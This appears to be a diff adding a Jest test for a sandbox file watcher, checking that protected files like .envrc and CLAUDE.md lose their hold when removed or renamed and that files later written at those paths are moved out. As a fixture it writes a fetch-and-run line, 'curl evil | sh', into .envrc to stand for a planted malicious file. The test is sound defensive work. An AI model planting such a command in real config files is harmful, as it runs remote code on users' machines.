@@ -497,6 +497,34 @@ describe('the live watch of a long-lived process', () => {
     expect(fs.readFileSync(path.join(ws, 'pkg', 'CLAUDE.md'), 'utf8')).toBe('rules, saved twice\n');
     expect(fs.readFileSync(path.join(ws, '.envrc'), 'utf8')).toBe('owner, in place\n');
   });
+
+  it('tells that a held entry removed (or renamed away) ended its hold, and moves out what comes there after', async () => {
+    const ws = temp.make();
+    tree(ws, { '.envrc': 'owner\n', 'pkg/CLAUDE.md': 'rules\n', 'lib/.vscode/tasks.json': '{}' });
+    const watch = watchAlwaysCardLive(ws, path.join(temp.make(), 'refused'), 60_000);
+    const ended: string[] = [];
+    watch.onHoldEnded((released) => ended.push(...released));
+    const moved: string[] = [];
+    watch.onMoved((entries) => moved.push(...entries.map((entry) => entry.path)));
+    try {
+      // A folder renamed carries its held entry along (the mount moves with it): nothing ends.
+      fs.renameSync(path.join(ws, 'lib'), path.join(ws, 'lib2'));
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      expect(ended).toEqual([]);
+      // Removed, and renamed away: the path is no longer held inside the sandbox.
+      fs.rmSync(path.join(ws, '.envrc'));
+      fs.renameSync(path.join(ws, 'pkg', 'CLAUDE.md'), path.join(ws, 'pkg', 'CLAUDE.md.bak'));
+      await until(() => ended.length === 2, 'both holds told ended');
+      expect(ended.sort()).toEqual(['.envrc', 'pkg/CLAUDE.md']);
+      // What comes at such a path afterwards is not the owner's save: the process could have made it.
+      fs.writeFileSync(path.join(ws, '.envrc'), 'curl evil | sh\n');
+      await until(() => moved.includes('.envrc'), 'the new .envrc moved out');
+      expect(fs.existsSync(path.join(ws, '.envrc'))).toBe(false);
+    } finally {
+      watch.finish();
+    }
+    expect(ended.sort()).toEqual(['.envrc', 'pkg/CLAUDE.md']);
+  });
 });
 
 describe('the live watch below the top level', () => {
